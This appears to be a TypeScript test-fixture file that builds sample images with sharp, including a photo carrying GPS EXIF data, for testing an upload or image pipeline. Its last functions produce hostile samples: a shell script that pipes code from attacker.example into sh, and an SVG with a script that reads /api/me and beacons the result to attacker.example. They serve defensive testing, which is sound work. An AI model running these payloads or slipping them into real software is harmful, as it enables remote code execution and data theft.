import sharp from 'sharp';

/** A text marker written into the GPS block, so the test can look for it in raw bytes. */
export const GPS_MARKER = 'KOPA-GPS-RIGA';
export const CAMERA_MARKER = 'KopaPhone';

/**
 * A phone-like photo: 2400×1800 pixels stored sideways with EXIF orientation 6 (so it
 * is 1800×2400 upright), a GPS position in Riga, the camera's make and a Display P3
 * ICC profile.
 */
export async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 2400, height: 1800, channels: 3, background: { r: 180, g: 120, b: 60 } } })
    .jpeg({ quality: 80 })
    .withExif({
      IFD0: { Make: CAMERA_MARKER, Model: 'Pocket 1' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '56/1 56/1 5/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '24/1 6/1 22/1',
        GPSMapDatum: GPS_MARKER,
      },
    })
    .withMetadata({ orientation: 6, icc: 'p3' })
    .toBuffer();
}

export function png(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 20, g: 140, b: 90, alpha: 0.5 } } })
    .png()
    .toBuffer();
}

export function jpeg(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#336699' } })
    .jpeg()
    .toBuffer();
}

export function gif(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#cc3300' } })
    .gif()
    .toBuffer();
}

export function webp(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#884422' } })
    .webp()
    .toBuffer();
}

/** An animation of 64×48 frames, one per colour. */
export async function animated(colours: string[], format: 'gif' | 'webp'): Promise<Buffer> {
  const frames = await Promise.all(
    colours.map((background) => sharp({ create: { width: 64, height: 48, channels: 3, background } }).png().toBuffer()),
  );
  return sharp(frames, { join: { animated: true } }).toFormat(format).toBuffer();
}

/** The start of a Linux x86-64 executable, padded out like a small program. */
export function elfExecutable(): Buffer {
  const header = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x00, 0x3e, 0x00]);
  return Buffer.concat([header, Buffer.alloc(4096, 0x90)]);
}

export function shellScript(): Buffer {
  return Buffer.from('#!/bin/sh\ncurl -s http://attacker.example/x | sh\n');
}

export function svgWithScript(): Buffer {
  return Buffer.from(
    '<?xml version="1.0" encoding="UTF-8"?>\n' +
      '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">' +
      '<script>fetch("/api/me").then((r) => r.text()).then((t) => navigator.sendBeacon("//attacker.example", t))</script>' +
      '<circle cx="100" cy="100" r="80" fill="teal"/></svg>',
  );
}
